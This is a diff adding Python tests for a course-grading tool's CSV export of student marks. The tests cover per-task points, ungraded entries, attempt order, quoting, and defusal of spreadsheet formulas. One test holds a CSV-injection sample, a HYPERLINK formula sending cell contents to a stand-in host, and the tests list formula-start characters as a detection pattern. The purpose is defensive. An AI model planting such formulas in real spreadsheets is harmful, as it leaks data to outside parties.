@@ -1,0 +1,100 @@
+import csv
+import io
+import re
+from dataclasses import replace
+
+from hypothesis import given
+from hypothesis import strategies as st
+
+from tools.grading.cell_text import as_it_was, defused, plain
+from tools.grading.marks_csv import marks_csv
+from tools.grading.records import Mark, TaskMark
+from tools.grading.released import released
+
+RELEASED = released("03-lookup-table")
+TASKS = tuple(
+    TaskMark(task, "passed", points, points) for task, points in RELEASED.points.items()
+)
+TEXT = st.text(alphabet=st.sampled_from("=+-@;,|'\" \t\r\nabπ＝＠\u202e\ud800"))
+
+
+def mark(student="ada", attempt=1, **more):
+    whole = Mark(student, attempt, "ada.ipynb", "d", "graded", "", TASKS, 10, 10)
+    return replace(whole, **more)
+
+
+def rows(*marks):
+    text = marks_csv(marks, RELEASED).decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_each_row_has_an_id_the_points_of_each_task_and_the_total():
+    (row,) = rows(mark())
+    assert list(row)[:4] == ["id", "counts", "lookup", "output_shape"]
+    assert (row["id"], row["counts"], row["lookup"]) == ("ada", "yes", "2")
+    assert (row["total"], row["out_of"], row["status"]) == ("10", "10", "graded")
+
+
+def test_what_was_not_graded_is_empty_and_never_0():
+    first = replace(TASKS[0], status="not graded", points=None)
+    (row,) = rows(
+        mark(status="not graded", reason="why", tasks=(first, *TASKS[1:]), total=None)
+    )
+    assert (row["lookup"], row["output_shape"], row["total"]) == ("", "1", "")
+    assert (row["status"], row["reason"]) == ("not graded", "why")
+    (row,) = rows(mark(status="not graded", tasks=(), total=None))
+    assert [row[task] for task in RELEASED.points] == [""] * 6
+
+
+def test_a_task_that_got_0_says_0():
+    (row,) = rows(mark(tasks=(replace(TASKS[0], points=0), *TASKS[1:]), total=8))
+    assert row["lookup"] == "0"
+
+
+def test_the_last_attempt_counts_even_if_it_could_not_be_graded():
+    later = mark(attempt=2, status="not graded", total=None, tasks=())
+    found = rows(later, mark("bob"), mark())
+    assert [(r["id"], r["attempt"], r["counts"]) for r in found] == [
+        ("ada", "1", "no"),
+        ("ada", "2", "yes"),
+        ("bob", "1", "yes"),
+    ]
+
+
+def test_the_order_in_which_marks_come_does_not_matter():
+    some = [mark("zoë"), mark("ada"), mark("ada", 2), mark("Bob")]
+    assert marks_csv(some, RELEASED) == marks_csv(some[::-1], RELEASED)
+
+
+def test_excel_is_told_that_it_is_utf_8_and_every_field_is_in_quotes():
+    content = marks_csv([mark("zoë")], RELEASED)
+    assert content.startswith(b'\xef\xbb\xbf"id","counts",')
+    assert '"zoë"'.encode() in content
+    assert not re.search(rb'(^|,)[^",\r\n]', content[3:])
+
+
+def test_a_formula_in_any_text_is_defused():
+    bad = '=HYPERLINK("http://x.example/?"&A1)'
+    (row,) = rows(mark(bad, name="@SUM(1)", reason="+1", flags=("-2+3", "=x")))
+    assert row["id"] == "'" + bad
+    assert row["file"] == "'@SUM(1)"
+    assert row["reason"] == "'+1"
+    assert row["flags"] == "'-2+3; '=x"
+
+
+@given(TEXT)
+def test_no_text_begins_with_what_starts_a_formula_nor_does_any_part_of_it(text):
+    for part in re.split("[;,|]", defused(text)):
+        assert not part.lstrip(' "').startswith(("=", "+", "-", "@", "＝", "＠"))
+
+
+@given(TEXT)
+def test_a_defused_text_is_on_one_line_and_can_be_got_back(text):
+    kept = plain(text)
+    assert as_it_was(defused(text)) == kept
+    assert not re.search("[\t\r\n\u202e\ud800]", defused(text))
+
+
+def test_names_of_all_the_world_stay_as_they_are():
+    for name in ("Ada Lovelace", "O'Brien", "Zoë-Ann", "李 小龍", "👩‍💻", "'quoted'", "a@b.cd"):
+        assert defused(name) == name
